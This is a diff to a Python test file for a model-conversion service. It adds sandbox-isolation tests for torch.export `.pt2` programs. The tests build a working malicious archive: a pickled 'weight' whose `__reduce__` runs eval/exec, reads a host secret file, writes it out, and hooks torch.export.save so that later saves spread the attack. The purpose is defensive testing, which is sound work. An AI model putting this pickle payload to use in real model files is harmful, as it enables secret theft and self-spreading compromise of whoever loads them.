@@ -1,5 +1,6 @@
 """Code-bearing artifacts attack the service: TorchScript that reads or writes host files when it is
-validated, benchmarked or served (with an infer-only token), and ONNX with custom operators. Each
+validated, benchmarked or served (with an infer-only token), ONNX with custom operators, and
+torch.export programs (`.pt2`) whose pickled weights run code when they load. Each TorchScript
 attack worked before TorchScript ran in isolated runners (service/runner.py)."""
 
 from __future__ import annotations
@@ -556,3 +557,256 @@ def test_an_aotinductor_package_runs_its_library_only_inside_the_runners_box(tmp
         assert marker.read_text().endswith("ran")
     finally:
         marker.unlink(missing_ok=True)
+
+
+# Python run by unpickling: torch.export.load reads a weight whose entry in the archive's weights
+# config says `use_pickle` with torch.load(weights_only=False), so a `.pt2` can hold any code as a
+# "weight". This one marks its working directory (where it may write), copies a host secret to a host
+# file, and returns the real weight, so the program works and the attack is otherwise silent. It also
+# makes every torch.export.save in its process write the attacking file itself: the candidate that
+# the sandboxed `build_pt2` op saves from the export capture carries the attack on into validation,
+# benchmarking and serving, as a program saved from an earlier attack could.
+PT2_STRIKE = """
+import shutil
+import sys
+
+import torch
+
+try:
+    with open("attack-ran", "a") as f:
+        f.write("1")
+except OSError:
+    pass
+try:
+    with open(SECRET) as f:
+        leaked = f.read()
+except OSError as exc:
+    leaked = repr(exc)
+with open(MARKER, "w") as f:
+    f.write(leaked + "ran")
+frame = sys._getframe()
+while frame is not None and not (frame.f_code.co_name == "load" and isinstance(frame.f_locals.get("f"), str)):
+    frame = frame.f_back
+if frame is not None and not hasattr(torch.export.save, "kiln_test"):
+    source, save = frame.f_locals["f"], torch.export.save
+
+    def infect(ep, f, *args, **kwargs):
+        save(ep, f, *args, **kwargs)
+        if isinstance(f, str):
+            shutil.copyfile(source, f)
+
+    infect.kiln_test = True
+    torch.export.save = infect
+weight = torch.nn.Parameter(torch.full((8,), 2.0))
+"""
+
+
+class _Unpickled:
+    """Unpickles as the value of `(lambda g: (exec(code, g), g["weight"])[1])({})`."""
+
+    def __init__(self, code: str):
+        self.code = code
+
+    def __reduce__(self):
+        return (eval, (f"(lambda g: (exec({self.code!r}, g), g['weight'])[1])({{}})",))
+
+
+def attacking_pt2(secret: Path, marker: Path) -> bytes:
+    """An ExportedProgram of `x * scale` (scale: eight 2.0s) whose `scale` is the pickled PT2_STRIKE."""
+    import zipfile
+
+    import torch
+
+    class Scale(torch.nn.Module):
+        def __init__(self):
+            super().__init__()
+            self.scale = torch.nn.Parameter(torch.full((8,), 2.0))
+
+        def forward(self, x):
+            return x * self.scale
+
+    batch = torch.export.Dim("batch", min=1, max=1024)
+    program = torch.export.export(Scale(), (torch.ones(2, 8),), dynamic_shapes=({0: batch},))
+    clean = io.BytesIO()
+    torch.export.save(program, clean)
+    payload = io.BytesIO()
+    code = PT2_STRIKE.replace("SECRET", repr(str(secret))).replace("MARKER", repr(str(marker)))
+    torch.save(_Unpickled(code), payload)
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(clean.getvalue())) as src, zipfile.ZipFile(out, "w") as dst:
+        for info in src.infolist():
+            data = src.read(info.filename)
+            if info.filename.endswith("/weights/model_weights_config.json"):
+                config = json.loads(data)
+                config["config"]["scale"].update(use_pickle=True, path_name="strike")
+                data = json.dumps(config).encode()
+                dst.writestr(info.filename.rsplit("/", 1)[0] + "/strike", payload.getvalue())
+            dst.writestr(info, data)
+    return out.getvalue()
+
+
+def carries_the_strike(pt2: Path) -> bool:
+    import zipfile
+
+    with zipfile.ZipFile(pt2) as zf:
+        return any(n.endswith("/weights/strike") for n in zf.namelist())
+
+
+def pt2_artifact(directory: Path, data: bytes) -> Path:
+    from service.runtimes.base import ArtifactInfo
+
+    directory.mkdir(parents=True)
+    (directory / "model.pt2").write_bytes(data)
+    ArtifactInfo(runtime="torch_export", file="model.pt2", signature=BENCH_SIGNATURE, device="cpu").save(directory)
+    return directory
+
+
+def assert_the_pt2_strike_is_real(pt2: Path, secret: Path, marker: Path) -> None:
+    """The control: torch.export.load of the same file on the host runs it, and it copies the secret."""
+    import subprocess
+    import sys
+
+    assert not marker.exists()
+    subprocess.run([sys.executable, "-c", f"import torch; torch.export.load({str(pt2)!r})"], cwd=pt2.parent, check=True)
+    try:
+        assert marker.read_text() == secret.read_text() + "ran"
+    finally:
+        marker.unlink(missing_ok=True)
+
+
+@pytest.fixture
+def host_marker():
+    path = Path(tempfile.gettempdir()) / f"kiln-pt2-marker-{uuid.uuid4().hex}"
+    yield path
+    path.unlink(missing_ok=True)
+
+
+# A Python bundle whose capture saves the attacking program instead of its own (its code runs only in
+# the box, where torch.export.save is called): the `.pt2` candidates are built from that capture. An
+# uploaded `.pt2` is unpickled the same way, by the sandboxed load op, but that op cannot yet run an
+# uploaded program (its module refuses `eval()`), so the conversion here starts from Python.
+PLANTING_SOURCE = """
+import base64
+
+import torch
+
+STRIKE = base64.b64decode(PT2)
+
+
+class Scale(torch.nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.scale = torch.nn.Parameter(torch.full((8,), 2.0))
+
+    def forward(self, x):
+        return x * self.scale
+
+
+def build_model():
+    save = torch.export.save
+
+    def plant(ep, f, *args, **kwargs):
+        save(ep, f, *args, **kwargs)
+        with open(f, "wb") as out:
+            out.write(STRIKE)
+
+    torch.export.save = plant
+    return Scale()
+"""
+
+
+def test_an_exported_program_that_attacks_when_unpickled_gets_nothing(tmp_path, host_secret, host_marker):
+    """A torch_export candidate whose pickled weight runs code each time the program is loaded: built
+    in the sandbox from an export capture that the model's code replaced with it, it is loaded by the
+    sandboxed build op, by validation's runner and by the sandboxed benchmark op, and then served by a
+    runner. The loads run the attack (the model's weight exists only as what it returns, and the
+    outputs are right), and none reads the secret or writes the host file."""
+    import base64
+
+    from service import runtimes
+    from workers.engine import convert
+
+    bundle = tmp_path / "planting.py"
+    strike = base64.b64encode(attacking_pt2(host_secret, host_marker)).decode()
+    bundle.write_text(PLANTING_SOURCE.replace("PT2", repr(strike)))
+    out = tmp_path / "out"
+    ctx = convert(
+        bundle,
+        out,
+        signature=BENCH_SIGNATURE,
+        options={"targets": ["torch_export"], "precisions": ["fp32"], "bench_seconds": 0.05, "threads": 1},
+    )
+    cand = ctx.candidate("torch_export-fp32")
+    assert cand.status == "built" and cand.artifact_dir, (cand, ctx.steps)
+    artifact = out / cand.artifact_dir
+    assert carries_the_strike(artifact / "model.pt2")  # what was validated, timed and is served
+    assert cand.validation is not None and cand.validation.passed, cand
+    bench = ctx.step("benchmark")
+    assert bench is not None and bench.status == "ok", ctx.steps
+    assert cand.benchmark, cand  # timed by the benchmark op
+    left = files_under(out)
+    assert any(p.name == "attack-ran" for p in left), sorted(map(str, left))  # it ran, in the ops' workdirs
+    assert not host_marker.exists(), host_marker.read_text()
+    secret = host_secret.read_bytes()
+    assert secret not in ctx.model_dump_json().encode()
+    for path, data in left.items():
+        assert secret not in data, f"{path} holds the host secret"
+
+    import numpy as np
+
+    rt = runtimes.load(artifact)  # serving: an isolated runner
+    try:
+        y = rt.run({"x": np.ones((3, 8), dtype="float32")})
+    finally:
+        rt.close()
+    assert np.array_equal(next(iter(y.values())), np.full((3, 8), 2.0, dtype="float32")), y
+    assert not host_marker.exists(), host_marker.read_text()
+    assert_the_pt2_strike_is_real(artifact / "model.pt2", host_secret, host_marker)
+
+
+def test_the_benchmark_op_loads_an_exported_program_only_inside_the_box(tmp_path, host_secret, host_marker):
+    """The sandboxed benchmark op alone, timing a torch_export candidate whose pickled weight attacks
+    as it is unpickled: it is timed (its weight is what the attack returned), the attack ran in the
+    op's working directory, and the host file is not written nor the secret in anything it leaves."""
+    from workers.sandbox import MIN_MEMORY_BYTES, Limits, control_dir, run_op
+
+    artifact = pt2_artifact(tmp_path / "artifacts" / "torch_export-fp32", attacking_pt2(host_secret, host_marker))
+    work = tmp_path / "work"
+    res = run_op(
+        "benchmark",
+        {
+            "signature": BENCH_SIGNATURE,
+            "threads": 1,
+            "batch_sizes": [1, 4],
+            "budget_s": 0.05,
+            "eager": [],
+            "artifacts": [{"id": "torch_export-fp32", "dir": str(artifact)}],
+            "pairs": [],
+        },
+        work,
+        limits=Limits(memory_bytes=MIN_MEMORY_BYTES * 2, timeout_s=120, readable=(artifact,)),
+    )
+    assert res.isolated and not any("UNISOLATED" in n for n in res.notes), res.notes
+    assert res.outcome == "ok", (res.reason, res.log[-2000:])
+    assert res.result["points"].get("torch_export-fp32"), res.result  # it loaded and ran
+    assert (work / "attack-ran").is_file()
+    assert not host_marker.exists(), host_marker.read_text()
+    secret = host_secret.read_bytes()
+    assert secret not in json.dumps(res.result).encode() and secret.decode() not in res.log
+    for path, data in files_under(work, control_dir(work)).items():
+        assert secret not in data, f"{path} holds the host secret"
+    assert_the_pt2_strike_is_real(artifact / "model.pt2", host_secret, host_marker)
+
+
+def test_an_exported_program_loads_in_process_only_inside_the_box(tmp_path, monkeypatch, host_secret, host_marker):
+    """Outside the box (the worker, the API) the in-process load of a torch_export artifact is refused
+    before the file is opened, so the pickled attack never runs there."""
+    from service import runtimes
+    from service.errors import RuntimeUnavailable
+
+    artifact = pt2_artifact(tmp_path / "artifact", attacking_pt2(host_secret, host_marker))
+    monkeypatch.delenv(runtimes.INSIDE_BOX, raising=False)
+    with pytest.raises(RuntimeUnavailable, match="only inside the isolation boundary"):
+        runtimes.load(artifact, isolated=False)
+    assert not host_marker.exists(), host_marker.read_text()
+    assert_the_pt2_strike_is_real(artifact / "model.pt2", host_secret, host_marker)
